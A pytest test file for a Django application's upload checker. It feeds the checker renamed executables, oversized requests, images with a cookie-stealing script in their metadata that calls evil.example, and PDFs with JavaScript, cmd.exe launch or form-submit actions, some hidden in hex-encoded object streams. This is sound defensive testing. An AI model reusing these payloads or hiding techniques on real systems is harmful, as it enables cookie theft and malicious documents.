"""Hostile uploads, through the one checker every upload in Jalur goes through (documents,
checklist items, complaint evidence, agreements): a renamed executable, a huge file, an image with a
script in its metadata, a PDF with JavaScript."""

import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin

from jalur.candidates.uploads import document_file_check

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def _upload(content: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def test_a_windows_program_renamed_to_a_photo_is_refused():
    with pytest.raises(ValidationError) as error:
        document_file_check(_upload(b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200, "ktp.jpg"))
    assert "PDF, JPG atau PNG" in str(error.value)


def test_a_linux_program_renamed_to_a_pdf_is_refused():
    with pytest.raises(ValidationError):
        document_file_check(_upload(b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "ijazah.pdf"))


def test_a_huge_file_is_refused_before_it_is_read_whole(settings):
    settings.JALUR_MAX_UPLOAD_BYTES = 5 * 1024 * 1024
    big = _upload(b"%PDF-1.4\n" + b"0" * (6 * 1024 * 1024), "besar.pdf")
    with pytest.raises(ValidationError) as error:
        document_file_check(big)
    assert "terlalu besar" in str(error.value)


def test_a_png_with_a_script_in_its_text_chunk_is_stored_without_it():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    buffer = io.BytesIO()
    Image.new("RGB", (120, 80), (10, 20, 30)).save(buffer, format="PNG", pnginfo=info)
    assert SCRIPT in buffer.getvalue()
    checked = document_file_check(_upload(buffer.getvalue(), "foto.png"))
    assert checked.content_type == "image/png"
    assert b"<script" not in checked.content and b"evil.example" not in checked.content


def test_a_jpeg_with_a_script_in_its_exif_and_comment_is_stored_without_it():
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()  # ImageDescription
    buffer = io.BytesIO()
    Image.new("RGB", (120, 80), (200, 180, 160)).save(
        buffer, format="JPEG", exif=exif.tobytes(), comment=SCRIPT
    )
    assert SCRIPT in buffer.getvalue()
    checked = document_file_check(_upload(buffer.getvalue(), "foto.jpg"))
    assert b"<script" not in checked.content


@pytest.mark.parametrize(
    "body",
    [
        b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n",
        b"1 0 obj<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>endobj\n",
        b"1 0 obj<</OpenAction<</S/#4A#61vaScript/JS(x)>>>>endobj\n",  # name escapes
    ],
)
def test_a_pdf_with_javascript_or_a_launch_action_is_refused(body):
    with pytest.raises(ValidationError) as error:
        document_file_check(_upload(b"%PDF-1.7\n" + body + b"trailer<<>>\n%%EOF\n", "surat.pdf"))
    assert "JavaScript" in str(error.value)


def test_javascript_hidden_in_a_compressed_stream_is_found():
    hidden = zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
    header = (
        b"%PDF-1.7\n1 0 obj<</Length "
        + str(len(hidden)).encode()
        + b"/Filter/FlateDecode>>stream\n"
    )
    pdf = header + hidden + b"\nendstream\nendobj\n%%EOF\n"
    with pytest.raises(ValidationError):
        document_file_check(_upload(pdf, "surat.pdf"))


# --- the whole request's ceiling (issue 16: enforced by Jalur, not only by the web server) ----------


@pytest.mark.django_db
def test_a_request_over_the_ceiling_is_refused_before_it_is_read(client, settings):
    settings.JALUR_MAX_REQUEST_BYTES = 1024 * 1024
    body = b"x" * (1024 * 1024 + 1)
    response = client.generic("POST", "/masuk/", body, content_type="application/octet-stream")
    assert response.status_code == 413
    text = response.content.decode()
    assert "Kiriman terlalu besar" in text and "1 MB" in text
    assert response["Connection"] == "close"


@pytest.mark.django_db
def test_the_refusal_is_in_the_language_the_person_chose(client, settings):
    settings.JALUR_MAX_REQUEST_BYTES = 1024 * 1024
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    body = b"x" * (1024 * 1024 + 1)
    response = client.generic("POST", "/masuk/", body, content_type="application/octet-stream")
    assert response.status_code == 413
    assert "Too big to send" in response.content.decode()


@pytest.mark.django_db
def test_a_lying_content_length_is_refused_too(client, settings):
    settings.JALUR_MAX_REQUEST_BYTES = 1024 * 1024
    response = client.post("/masuk/", {"a": "b"}, CONTENT_LENGTH=str(50 * 1024 * 1024))
    assert response.status_code == 413


@pytest.mark.django_db
def test_a_request_under_the_ceiling_reaches_the_view(client, settings):
    settings.JALUR_MAX_REQUEST_BYTES = 1024 * 1024
    response = client.post("/masuk/", {"username": "x", "password": "y"})
    assert response.status_code == 200


# --- PDFs read by their structure (issue 16: a regular expression missed hidden scripts) ------------


def _pdf_with_object_stream(hidden: bytes) -> bytes:
    """A valid PDF 1.5 whose object 5 (`hidden`, the catalog's OpenAction) sits in an object stream
    encoded with ASCIIHexDecode, found through a cross-reference stream: no byte of it is readable
    in the file, and no Flate stream holds it."""
    inner = b"5 0 " + hidden
    first = len(b"5 0 ")
    objstm = inner.hex().upper() + ">"
    parts = [
        b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >> endobj\n",
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n",
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\n",
        (
            f"4 0 obj << /Type /ObjStm /N 1 /First {first} /Filter /ASCIIHexDecode "
            f"/Length {len(objstm)} >>\nstream\n{objstm}\nendstream\nendobj\n"
        ).encode(),
    ]
    out = b"%PDF-1.5\n"
    offsets = []
    for part in parts:
        offsets.append(len(out))
        out += part
    xref_at = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    rows += [b"\x01" + o.to_bytes(4, "big") + b"\x00\x00" for o in offsets]
    rows.append(b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00")  # object 5: in stream 4, first
    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00")  # object 6: this stream
    data = b"".join(rows)
    out += (
        f"6 0 obj << /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length {len(data)} >>\nstream\n"
    ).encode()
    out += data + b"\nendstream\nendobj\n"
    out += f"startxref\n{xref_at}\n%%EOF\n".encode()
    return out


@pytest.mark.parametrize(
    "hidden",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /S /SubmitForm /F (https://evil.example/x) >>",
    ],
)
def test_an_action_hidden_in_a_hex_encoded_object_stream_is_refused(hidden):
    pdf = _pdf_with_object_stream(hidden)
    assert b"JavaScript" not in pdf and b"Launch" not in pdf and b"Submit" not in pdf
    with pytest.raises(ValidationError) as error:
        document_file_check(_upload(pdf, "surat.pdf"))
    assert "JavaScript atau perintah otomatis" in str(error.value)


def test_a_pdf_carrying_a_file_is_refused():
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["program.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")
    buffer = io.BytesIO()
    pdf.save(buffer, compress_streams=True, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    with pytest.raises(ValidationError):
        document_file_check(_upload(buffer.getvalue(), "ijazah.pdf"))


def test_an_open_action_that_only_opens_the_first_page_passes():
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    checked = document_file_check(_upload(buffer.getvalue(), "ijazah.pdf"))
    assert checked.content_type == "application/pdf"


def test_a_pdf_jalur_itself_prints_passes():
    from fpdf import FPDF

    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text="Surat keterangan sehat")
    checked = document_file_check(_upload(bytes(document.output()), "surat.pdf"))
    assert checked.content_type == "application/pdf"
